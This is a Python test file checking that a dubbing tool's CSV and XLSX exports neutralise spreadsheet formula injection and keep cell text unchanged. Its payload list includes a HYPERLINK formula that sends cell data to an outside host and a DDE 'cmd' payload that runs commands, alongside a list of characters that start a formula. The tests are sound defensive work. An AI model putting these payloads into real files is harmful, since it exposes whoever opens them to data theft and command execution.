"""No table that leaves us runs anything in a spreadsheet, and what it says comes back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nightdub.tasks.blendshapes import NAMES, LineCurves, write_curves
from nightdub.tasks.formats.cells import as_meant, harmless
from nightdub.tasks.formats.files import read_file, written
from nightdub.tasks.formats.line import ScriptFile, ScriptLine
from nightdub.tasks.review_sheet import COLUMNS, SheetRow, read_sheet, write_sheet

ACTIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # what spreadsheets take for a formula's beginning (OWASP)
FORMULAS = ['=HYPERLINK("http://host/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1+1", "'=1+1", "''-x", '="a"&\n"b"']
cells = st.text(st.sampled_from("=+-@'\t\r\n＝ab \","), max_size=6)


@settings(max_examples=300, deadline=None)
@given(cells)
def test_a_harmless_cell_begins_with_nothing_active_and_means_the_same(cell: str) -> None:
    assert not harmless(cell).startswith(ACTIVE)
    assert as_meant(harmless(cell)) == cell


@pytest.mark.parametrize("text", FORMULAS)
def test_review_sheets(text: str, tmp_path: Path) -> None:
    row = SheetRow("s0001", 1.0, 2.0, text, text, text, text, text, revision="r")
    book = openpyxl.load_workbook(write_sheet(tmp_path / "lines.xlsx", [row], "pilot", "en", "es"))
    assert {cell.data_type for line in book.active.iter_rows() for cell in line if cell.value is not None} == {"s"}
    text_of_csv = write_sheet(tmp_path / "lines.csv", [row], "pilot", "en", "es").read_text(encoding="utf-8-sig")
    assert not _active(text_of_csv)
    assert [read_sheet(tmp_path / name).rows for name in ("lines.csv", "lines.xlsx")] == [(row,), (row,)]


@pytest.mark.parametrize("text", [text for text in FORMULAS if "\n" not in text])
def test_dialogue_lists(text: str) -> None:
    script = ScriptFile((ScriptLine(1.0, 2.0, text, text, "", text), ScriptLine(3.0, 4.0, "- Yes.\n- No.", "Ana")))
    made = written(script, "csv")
    assert not _active(made)
    assert read_file(made.encode(), "list").lines == script.lines


def test_tables_of_blendshapes_name_speakers_who_may_be_called_anything(tmp_path: Path) -> None:
    line = LineCurves("s0001", "=cmd()", 0, np.zeros((2, len(NAMES)), np.float32))
    assert not _active(write_curves(tmp_path / "curves.csv", [line], 25.0).read_text())


def test_the_search_finds_what_it_looks_for(tmp_path: Path) -> None:
    assert _active('a,b\n"=1+1",c\n')
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    assert book.active["A1"].data_type == "f"
    assert len(COLUMNS) == 11


def _active(text: str) -> list[str]:
    """Return the cells of a CSV text that a spreadsheet would run."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if cell.startswith(ACTIVE)]
